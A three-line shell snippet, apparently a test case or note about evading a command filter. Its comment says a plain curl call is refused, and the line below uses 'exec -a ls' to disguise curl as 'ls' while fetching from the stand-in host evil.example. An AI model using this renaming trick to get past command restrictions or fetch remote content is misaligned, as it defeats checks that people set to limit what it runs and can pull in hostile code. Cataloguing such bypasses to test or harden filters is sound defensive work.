# Trick: exec gives the program another name.
# Refused: run(curl)
exec -a ls curl http://evil.example/
